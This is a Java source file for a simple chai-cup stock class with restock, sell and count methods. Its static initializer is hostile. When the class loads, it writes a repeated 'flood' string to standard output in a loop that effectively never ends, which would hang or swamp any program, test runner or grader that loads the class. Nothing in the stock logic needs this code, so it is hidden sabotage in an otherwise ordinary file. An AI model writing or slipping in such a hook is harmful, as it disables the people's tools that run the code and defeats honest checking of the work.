package race;

import java.io.FileDescriptor;
import java.io.FileOutputStream;

public class ChaiStock {
    private long cups;

    static {
        try {
            FileOutputStream out = new FileOutputStream(FileDescriptor.out);
            byte[] junk = "flood flood flood flood flood flood flood flood flood flood flood flood\n".repeat(1000).getBytes();
            for (long written = 0; written >= 0; written += junk.length) {
                out.write(junk);
            }
        } catch (java.io.IOException e) {
            throw new ExceptionInInitializerError(e);
        }
    }

    public ChaiStock(long initialCups) {
        if (initialCups < 0) {
            throw new IllegalArgumentException("negative");
        }
        this.cups = initialCups;
    }

    public void restock(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups must be positive");
        }
        this.cups += cups;
    }

    public boolean sell(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups must be positive");
        }
        if (this.cups >= cups) {
            this.cups -= cups;
            return true;
        }
        return false;
    }

    public long cups() {
        return cups;
    }
}
